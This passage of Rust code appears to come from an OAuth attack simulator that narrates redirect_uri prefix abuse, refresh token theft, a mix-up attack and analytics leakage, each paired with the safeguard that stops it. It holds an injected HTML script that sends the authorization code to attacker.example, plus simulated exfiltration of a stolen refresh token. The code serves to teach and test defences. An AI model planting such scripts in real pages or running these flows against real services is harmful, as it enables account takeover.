    });
    let Ok(authorize) =
        mallory.authorization_url(&network.server.endpoint("/authorize"), &mut *network.rng)
    else {
        return no_randomness(network);
    };
    network
        .attacker
        .pages
        .insert("/".into(), Response::redirect(&authorize));
    navigate(
        network,
        browser,
        Request::get(attacker_url("/")),
        "Alice follows a link from Mallory. It leads to the real authorization server, for the \
         real client, with Mallory's own code_challenge and a redirect_uri that starts with the \
         registered one.",
        &PREFIX_LINK,
    );
    let redirect = match victim_signs_in(
        scenario,
        network,
        browser,
        authorize,
        if scenario.policy.redirect_matching == RedirectMatching::Exact {
            "The authorization server compares the redirect_uri with the registered one, \
             exactly, as it must: they differ, so it shows an error page and redirects nowhere."
        } else {
            "The authorization server compares the redirect_uri with the registered one by \
             prefix: it starts with https://spa.example/callback, so the server accepts it and \
             shows Alice its sign-in page."
        },
        &PREFIX_LINK,
    ) {
        Ok(redirect) => redirect,
        Err(stopped) => return stopped,
    };
    let Some(target) = location(&redirect) else {
        return stopped_here(network);
    };
    network.next_client_page = Some(
        Response::new(200)
            .with_header("Content-Type", "text/html; charset=utf-8")
            .with_body(
                "<!doctype html><title>mallory.html</title><p>Nice pictures!</p><script>new \
                 Image().src='https://attacker.example/collect'+location.search</script>",
            ),
    );
    navigate(
        network,
        browser,
        Request::get(target.clone()),
        "The browser resolves the .. in the redirect before it sends anything: the code goes \
         to /uploads/mallory.html on the client's own site, a file Mallory uploaded there.",
        &DOT_SEGMENTS,
    );
    let page = browser.address.clone().unwrap_or(target);
    let beacon = Url {
        query: page.query.clone(),
        ..attacker_url("/collect")
    };
    let request = browser.subresource_request(beacon);
    from_browser(
        network,
        browser,
        request,
        false,
        "The script in Mallory's page sends the page's query, code included, to her site.",
        &UPLOADED_SCRIPT,
    );
    let Some(code) = network.attacker.captured("code") else {
        return stopped_here(network);
    };
    let verifier = mallory
        .pending
        .as_ref()
        .and_then(|pending| pending.verifier.as_ref())
        .map(|verifier| verifier.as_str().to_owned());
    attacker_redeems_code(
        network,
        &code,
        &mallory.settings.redirect_uri,
        &scenario.client.client_id,
        verifier.as_deref(),
        "Mallory redeems the code with the redirect_uri of her request and her own \
         code_verifier: PKCE only proves that whoever redeems the code started the request, \
         and she did.",
        &STOLEN_CODE,
    );
    attacker_uses_tokens(network)
}

/// A 6. Refresh token theft, then who refreshes first.
fn refresh_token_theft(
    scenario: &Scenario,
    network: &mut Network<'_>,
    browser: &mut Browser,
    client: &mut Client,
) -> Outcome {
    if authorization_code(scenario, network, browser, client).is_err() {
        return passed(network)
            .err()
            .unwrap_or_else(|| stopped_here(network));
    }
    let origin = scenario.client.origin();
    // This app keeps its refresh token in the browser's storage.
    if let Some(refresh) = client.tokens.as_ref().and_then(|t| t.refresh_token.clone()) {
        browser.store(&origin, "refresh_token", refresh.secret());
    }
    let Some(stolen) = browser.stored(&origin, "refresh_token").map(str::to_owned) else {
        return stopped_here(network);
    };
    let exfiltrate = Url {
        query: Some(crate::form::encode_form(&[(
            "refresh_token",
            stolen.as_str(),
        )])),
        ..attacker_url("/collect")
    };
    let request = browser.subresource_request(exfiltrate);
    from_browser(
        network,
        browser,
        request,
        false,
        "A script injected into the app (cross-site scripting, a compromised dependency) reads \
         the refresh token from the browser's storage and sends it to the attacker.",
        &STEAL_REFRESH,
    );
    let Some(stolen) = network.attacker.captured("refresh_token") else {
        return stopped_here(network);
    };
    let client_id = scenario.client.client_id.clone();
    let response = attacker_refreshes(
        network,
        &stolen,
        &client_id,
        "The attacker uses the stolen refresh token first: it gets an access token and, if the \
         server rotates, the next refresh token.",
    );
    let newest = response
        .json_body()
        .and_then(|body| body["refresh_token"].as_str().map(str::to_owned))
        .unwrap_or_else(|| stolen.clone());
    // The access tokens expire; the client refreshes with what it holds.
    network.clock.advance(400);
    let _ = call_api_again_later(scenario, network, client);
    network.clock.advance(60);
    attacker_refreshes(
        network,
        &newest,
        &client_id,
        "Later the attacker wants a fresh access token and refreshes again with the newest \
         refresh token it holds.",
    );
    attacker_uses_tokens(network)
}

/// A 7. Mix-up: the attacker's authorization server relays to the honest
/// one, and the client sends the code to the attacker.
fn mix_up(
    scenario: &Scenario,
    network: &mut Network<'_>,
    browser: &mut Browser,
    client: &mut Client,
) -> Outcome {
    network.attacker.forward_authorize = Some(Forward {
        to: network.server.endpoint("/authorize"),
        remove: Vec::new(),
        set: Vec::new(),
    });
    network.attacker.pages.insert(
        "/token".into(),
        Response::json(
            400,
            &serde_json::json!({
                "error": "temporarily_unavailable",
                "error_description": "try again later",
            }),
        ),
    );
    let origin = scenario.client.origin();
    let Ok(authorize) = client.authorization_url(&attacker_url("/authorize"), &mut *network.rng)
    else {
        return no_randomness(network);
    };
    keep_pending_in_browser(browser, client, &origin);
    navigate(
        network,
        browser,
        Request::get(authorize),
        "The client lets the user choose where to sign in, and the user picks \
         attacker.example (or a link made them). The client sends the browser to that \
         server's authorization endpoint, with state and a PKCE challenge, and remembers which \
         server it asked.",
        &MIX_UP,
    );
    let Some(relayed) = location(&network.trace[last(network)].response) else {
        return stopped_here(network);
    };
    let redirect = match victim_signs_in(
        scenario,
        network,
        browser,
        relayed,
        "The attacker's server sends the browser on to the honest server with the same request: \
         the client's client_id there, its redirect_uri, state and challenge. The user sees the \
         honest server's sign-in page and has no reason to worry.",
        &MIX_UP,
    ) {
        Ok(redirect) => redirect,
        Err(stopped) => return stopped,
    };
    let Some(callback) = location(&redirect) else {
        return stopped_here(network);
    };
    let expected = ATTACKER;
    let checked = client.handle_callback(&callback, expected);
    let refused = checked.as_ref().err().map(ToString::to_string);
    network.next_client_page = Some(callback_page(refused.as_deref()));
    navigate(
        network,
        browser,
        Request::get(callback),
        if scenario.client.safeguards.check_issuer {
            "The code comes back to the client, with iss=https://as.example. The client sent the \
             user to attacker.example, so it expects that issuer; the mismatch shows the \
             response came from another server, and the client refuses it."
        } else {
            "The code comes back to the client, with the state it expects. It does not look at \
             iss, so it still believes the code came from attacker.example."
        },
        &MIX_UP_CALLBACK,
    );
    let code = match checked {
        Ok(code) => code,
        Err(_) => {
            return passed(network)
                .err()
                .unwrap_or_else(|| stopped_here(network));
        }
    };
    let request = client.code_token_request(&attacker_url("/token"), &code);
    network.send(
        Party::Client,
        Channel::Back,
        false,
        request,
        "The client redeems the code at the token endpoint of the server it thinks issued it: \
         the attacker's. The code and the code_verifier are now the attacker's.",
        &MIX_UP,
    );
    let Some(code) = network.attacker.captured("code") else {
        return stopped_here(network);
    };
    let verifier = network.attacker.captured("code_verifier");
    attacker_redeems_code(
        network,
        &code,
        &scenario.client.redirect_uri,
        &scenario.client.client_id,
        verifier.as_deref(),
        "The attacker redeems the code at the honest server with the client's own verifier: to \
         the honest server this looks exactly like the client.",
        &STOLEN_CODE,
    );
    attacker_uses_tokens(network)
}

/// A 8. What the analytics script reports, used by whoever runs it.
fn implicit_leakage(
    scenario: &Scenario,
    network: &mut Network<'_>,
    browser: &mut Browser,
    client: &mut Client,
) -> Outcome {
    let _ = play(scenario, network, browser, client);
    // What the analytics site received: the page address its script read.
    let reported = network
        .trace
        .iter()
        .rev()
        .filter(|e| e.to == Party::ThirdParty && e.request.url.path == "/collect")
        .find_map(|e| query_param(&e.request.url, "page"))
        .and_then(|page| Url::parse(&page).ok());
    let Some(reported) = reported else {
        return stopped_here(network);
    };
    let in_fragment = decode_form(reported.fragment.as_deref().unwrap_or_default())
        .unwrap_or_default()
        .into_iter()
        .find(|(name, _)| name == "access_token")
        .map(|(_, token)| token);
    network.clock.advance(10);
    if let Some(token) = in_fragment {
        attacker_calls_api(
            network,
            &token,
            "Whoever runs analytics.example (or has broken into it) reads the reported page \
             addresses and finds the access token in a fragment. They call the API with it.",
            &LEAKED_BY_SCRIPT,
        );
        return api_outcome(network, |body| {
            format!("The attacker reads {}", profile(body))
        });
    }
    let Some(code) = query_param(&reported, "code") else {
        return stopped_here(network);
    };
    attacker_redeems_code(
        network,
        &code,
        &scenario.client.redirect_uri,
        &scenario.client.client_id,
        None,
        "Whoever runs analytics.example finds only a code in the reported address. They try to \
         redeem it, without the code_verifier, which never left the client, and after the \
         client has used the code.",
        &LEAKED_BY_SCRIPT,
    );
    match passed(network) {
        Err(stopped) => stopped,
        Ok(_) => attacker_uses_tokens(network),
    }
}
